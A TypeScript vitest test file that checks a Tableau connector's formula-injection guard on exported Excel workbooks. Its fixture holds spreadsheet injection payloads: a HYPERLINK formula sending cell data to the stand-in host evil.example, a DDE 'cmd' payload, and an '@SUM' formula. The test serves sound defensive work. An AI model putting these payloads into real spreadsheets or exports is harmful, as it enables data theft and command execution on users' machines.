import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { defaultCatalog } from '../../../test/fakes/fake-tableau-catalog.ts'
import { startFakeTableau, type FakeTableau } from '../../../test/fakes/fake-tableau.ts'
import {
  createTableauConnector,
  createTableauRuntime,
  type SessionStore,
  type TableauSession,
} from './index.ts'

/** Tableau's crosstab workbook is attached as Tableau made it, but with Herald's formula-injection guard (§8.8). */
let fake: FakeTableau
const HOSTILE = [
  ['=HYPERLINK("http://evil.example/?d="&B2,"Details")', '100'],
  ["+cmd|' /C calc'!A0", '200'],
  ['@SUM(1+1)', '300'],
  ['Desks', '2050'],
]
beforeAll(async () => {
  const catalog = defaultCatalog()
  catalog.views.find((v) => v.name === 'Product Summary')!.rows = HOSTILE
  fake = await startFakeTableau({ catalog })
})
afterAll(() => fake.close())

function memoryStore(): SessionStore {
  let session: TableauSession | undefined
  return {
    load: async () => session,
    save: async (s) => {
      session = s
    },
    refused: async () => undefined,
  }
}

describe('Tableau crosstab (Excel for table visuals)', () => {
  it('neutralises cells that would run as formulas in the downloaded workbook', async () => {
    const runtime = createTableauRuntime({ allowedHosts: ['127.0.0.1'], concurrency: 2, backoffMs: 10 })
    const connector = createTableauConnector(
      runtime,
      {
        tool: 'TABLEAU_SERVER',
        serverUrl: fake.url,
        siteContentUrl: 'acme',
        credentials: { kind: 'pat', tokenName: fake.pat.name, tokenSecret: fake.pat.secret },
      },
      memoryStore(),
    )
    const view = fake.catalog.views.find((v) => v.name === 'Product Summary')!
    const exported = await connector.exportVisuals({ reportId: view.id, visualNames: 'All', locale: 'en-US' })
    expect(exported.kind).toBe('xlsx')

    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load((exported as { xlsx: Buffer }).xlsx as unknown as ArrayBuffer)
    const sheet = workbook.worksheets[0]!
    const column = (n: number) => sheet.getColumn(n).values.slice(1)
    expect(column(1)).toEqual([
      'Product',
      '\'=HYPERLINK("http://evil.example/?d="&B2,"Details")',
      "'+cmd|' /C calc'!A0",
      "'@SUM(1+1)",
      'Desks',
    ])
    expect(column(2)).toEqual(['Revenue', '100', '200', '300', '2050'])
  })
})
